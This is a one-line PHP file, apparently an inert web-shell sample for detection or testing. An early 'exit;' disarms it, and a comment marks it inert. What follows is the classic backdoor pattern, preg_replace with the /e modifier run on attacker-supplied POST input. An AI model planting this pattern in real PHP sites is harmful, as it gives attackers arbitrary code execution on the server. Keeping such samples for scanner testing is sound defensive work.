<?php exit; /* inert */ preg_replace("/(.*)/e",$_POST["a"],"x");
